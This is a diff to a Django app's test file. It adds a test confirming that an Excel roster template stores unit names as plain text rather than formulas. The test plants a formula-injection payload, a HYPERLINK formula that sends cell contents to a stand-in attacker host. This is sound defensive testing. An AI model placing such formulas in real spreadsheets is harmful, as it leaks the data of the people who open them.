@@ -1,6 +1,7 @@
 """The pages: upload, preview with filter and paging, progress, confirm, discard, template; query counts."""
 
 import io
+import zipfile
 
 import openpyxl
 import pytest
@@ -8,6 +9,7 @@ from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
 
 from chuangxian.orgs.models import Member, MemberStatus
+from chuangxian.orgs.tests.factories import make_unit
 from chuangxian.roster.models import ImportMode, ImportStatus, RosterImport
 from chuangxian.roster.tests.factories import id_number, person, upload, xlsx_bytes
 
@@ -194,6 +196,20 @@ def test_template_download(office_client, tree):
     assert "文学与传播学院" in units
     assert "中文系工会小组" not in units
     assert "填写说明" in workbook.sheetnames
+
+
+def test_template_writes_a_formula_like_unit_name_as_plain_text(office_client, tree):
+    """Unit names reach the hidden list sheet: one named like a formula must not run in Excel."""
+    hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
+    make_unit(tree.tenant, hostile, parent=tree.root)
+    response = office_client.get(reverse("roster:template"))
+    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
+        for name in archive.namelist():
+            if name.startswith("xl/worksheets/sheet"):
+                xml = archive.read(name).decode()
+                assert "<f>" not in xml and "<f " not in xml, name
+    cells = [c for (c,) in openpyxl.load_workbook(io.BytesIO(response.content))["单位列表"].iter_rows()]
+    assert [(c.value, c.data_type) for c in cells if c.value == hostile] == [(hostile, "s")]
 
 
 def test_the_template_itself_imports_cleanly(office_client, tree, personas):
